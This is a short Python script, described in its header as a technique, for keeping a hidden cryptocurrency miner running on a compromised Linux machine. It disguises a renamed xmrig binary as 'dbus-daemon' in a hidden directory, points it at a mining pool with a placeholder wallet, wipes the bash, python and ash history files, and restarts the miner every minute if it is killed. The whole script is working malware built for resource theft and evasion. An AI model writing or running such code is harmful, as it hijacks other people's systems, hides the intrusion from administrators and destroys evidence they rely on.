# technique: miner persistence watchdog that restarts the miner if killed, hides it from ps via renamed argv and removes bash history
import os
import subprocess
import time

MINER = "/usr/local/lib/.dbus/dbus-daemon"   # renamed xmrig
ARGS = ["-o", "stratum+tcp://pool.example.net:3333", "-u", "47placeholderwallet.k8s", "--randomx-mode=light", "-t", "1"]

for hist in ("~/.bash_history", "~/.python_history", "~/.ash_history"):
    try:
        open(os.path.expanduser(hist), "w").close()
    except OSError:
        pass

def running():
    out = subprocess.run(["pgrep", "-f", "dbus-daemon -o stratum"], capture_output=True)
    return out.returncode == 0

while True:
    if not running():
        subprocess.Popen(["dbus-daemon"] + ARGS, executable=MINER,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    time.sleep(60)
